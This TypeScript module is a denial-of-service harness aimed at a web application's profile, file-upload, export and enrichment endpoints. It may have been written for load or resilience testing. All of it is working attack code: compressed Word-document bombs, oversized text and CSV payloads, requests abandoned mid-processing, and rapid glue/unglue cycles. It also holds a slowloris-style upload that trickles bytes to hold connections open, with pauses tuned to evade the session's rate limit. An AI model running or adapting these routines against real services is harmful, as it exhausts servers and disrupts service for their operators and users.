import { request } from 'node:http';
import { setTimeout as sleep } from 'node:timers/promises';
import { strToU8, zipSync } from 'fflate';

const megabyte = 1024 ** 2;

export interface Session {
  origin: string;
  cookie: string;
}

interface Sent {
  method?: 'GET' | 'POST';
  body?: object | FormData;
  /** The client disconnects after this time. */
  leaveAfterMs?: number;
}

/** Status of the complete answer; 0 after a disconnect. */
async function send(
  { origin, cookie }: Session,
  path: string,
  { method = 'POST', body, leaveAfterMs }: Sent,
): Promise<Response | undefined> {
  const isForm = body instanceof FormData;
  const headers = { cookie: `csrftoken=t; ${cookie}`, 'x-csrftoken': 't', ...(isForm ? {} : { 'content-type': 'application/json' }) };
  try {
    const answer = await fetch(`${origin}${path}`, {
      method,
      headers,
      ...(body ? { body: isForm ? body : JSON.stringify(body) } : {}),
      ...(leaveAfterMs === undefined ? {} : { signal: AbortSignal.timeout(leaveAfterMs) }),
    });
    return new Response(await answer.arrayBuffer(), { status: answer.status });
  } catch {
    return undefined;
  }
}

/** Sends one request or several. Returns their statuses. */
type Attempt = (number: number) => Promise<number>;

const statusOf = async (answer: Promise<Response | undefined>) => (await answer)?.status ?? 0;

function formOf(name: string, content: Uint8Array | string, fields: Readonly<Record<string, string>> = {}): FormData {
  const form = new FormData();
  for (const [field, value] of Object.entries(fields)) form.append(field, value);
  form.append('file', new Blob([content]), name);
  return form;
}

/** A Word document that unpacks to just below, or above, the limit. */
function wordOf(megabytes: number): Uint8Array {
  const types =
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>';
  const body = '<w:p/>'.repeat((megabytes * megabyte) / 6);
  const space = 'http://schemas.openxmlformats.org/wordprocessingml/2006/main';
  return zipSync({
    '[Content_Types].xml': strToU8(types),
    'word/document.xml': strToU8(`<w:document xmlns:w="${space}"><w:body>${body}</w:body></w:document>`),
  });
}

async function files(session: Session): Promise<Attempt> {
  const ids: number[] = [];
  for (const [name, megabytes] of [
    ['accepted.docx', 7.9],
    ['refused.docx', 27],
  ] as const) {
    const answer = await send(session, '/api/files/v1/', { body: formOf(name, wordOf(megabytes), { purpose: 'profile' }) });
    if (answer?.status !== 200) throw new Error(`an upload answered ${answer?.status}: ${await answer?.text()}`);
    ids.push(((await answer.json()) as { id: number }).id);
  }
  return (number) =>
    statusOf(
      send(session, '/api/v6/profiles/create/read/', {
        body: { file_id: ids[number % 8 === 0 ? 1 : 0] },
        ...(number % 2 === 0 ? { leaveAfterMs: 300 } : {}),
      }),
    );
}

async function texts(session: Session): Promise<Attempt> {
  const units = ['Ada Lovelace\n', 'a@b.c, ', 'Work: 2018 - 2020\n', '+7 912 555 01 42 ', '• a\n'];
  return (number) => {
    const unit = units[number % units.length] ?? '';
    const text = `Ada Lovelace\n${unit.repeat(99_000 / unit.length)}`;
    return statusOf(send(session, '/api/v6/profiles/create/read/', { body: { text } }));
  };
}

async function exports(session: Session): Promise<Attempt> {
  const columns = ['name', 'title', 'company', 'city', 'skills', 'education'];
  const body = { search: { query: '', filters: '' }, columns, open_contacts: false };
  return () => statusOf(send(session, '/api/v6/profiles/export/csv/', { body }));
}

async function tables(session: Session): Promise<Attempt> {
  const content = '"Ada ""A"" Lovelace";a@b.test;"x\ny"\n'.repeat((9 * megabyte) / 37);
  return () => statusOf(send(session, '/api/v6/enrichment_requests/preview/', { body: formOf('people.csv', content) }));
}

async function merges(session: Session): Promise<Attempt> {
  const pairs: number[][] = [];
  for (let count = 0; count < 40; count += 1) {
    const body = { first_name: 'Ada', last_name: `Insider ${count}` };
    const answer = await send(session, '/api/v6/profiles/create/', { body });
    if (answer?.status !== 200) throw new Error(`a profile answered ${answer?.status}`);
    const { id } = (await answer.json()) as { id: number };
    if (count % 2 === 0) pairs.push([id]);
    else pairs.at(-1)?.push(id);
  }
  return async (number) => {
    const pair = pairs[number % pairs.length] ?? [];
    const status = await statusOf(send(session, '/api/glun/v4/', { body: { action: 'glue', profile_ids: pair } }));
    if (status === 200) await send(session, '/api/glun/v4/', { body: { action: 'unglue', profile_ids: pair } });
    return status;
  };
}

/** 28 of 29 MB, then a little every few seconds. */
async function uploads({ origin, cookie }: Session): Promise<Attempt> {
  const beginning = Buffer.alloc(28 * megabyte, 'x');
  return () =>
    new Promise((resolve) => {
      const headers = {
        cookie: `csrftoken=t; ${cookie}`,
        'x-csrftoken': 't',
        'content-type': 'multipart/form-data; boundary=b',
        'content-length': 29 * megabyte,
      };
      const sent = request(`${origin}/api/files/v1/`, { method: 'POST', headers, agent: false });
      const more = setInterval(() => sent.write(Buffer.alloc(6 * 1024, 'x')), 10_000);
      const end = (status: number) => {
        clearInterval(more);
        sent.destroy();
        resolve(status);
      };
      sent.on('response', ({ statusCode = 0 }) => end(statusCode));
      sent.on('error', () => end(0));
      sent.write(beginning);
    });
}

export const attacks = { files, texts, exports, tables, merges, uploads } as const;
export type AttackName = keyof typeof attacks;

/** Pause after a refusal, which keeps all lines within the session's request limit. */
const pauseMs = 250;

/** Repeats an attack on parallel lines until `signal` aborts. Returns counts by status. */
export async function attack(name: AttackName, session: Session, { lines, signal }: { lines: number; signal: AbortSignal }) {
  const attempt = await attacks[name](session);
  const counts: Record<number, number> = {};
  let number = 0;
  const work = async () => {
    while (!signal.aborted) {
      const status = await attempt((number += 1));
      counts[status] = (counts[status] ?? 0) + 1;
      if (status >= 400) await sleep(pauseMs);
    }
  };
  return { counts, over: Promise.all(Array.from({ length: lines }, work)) };
}
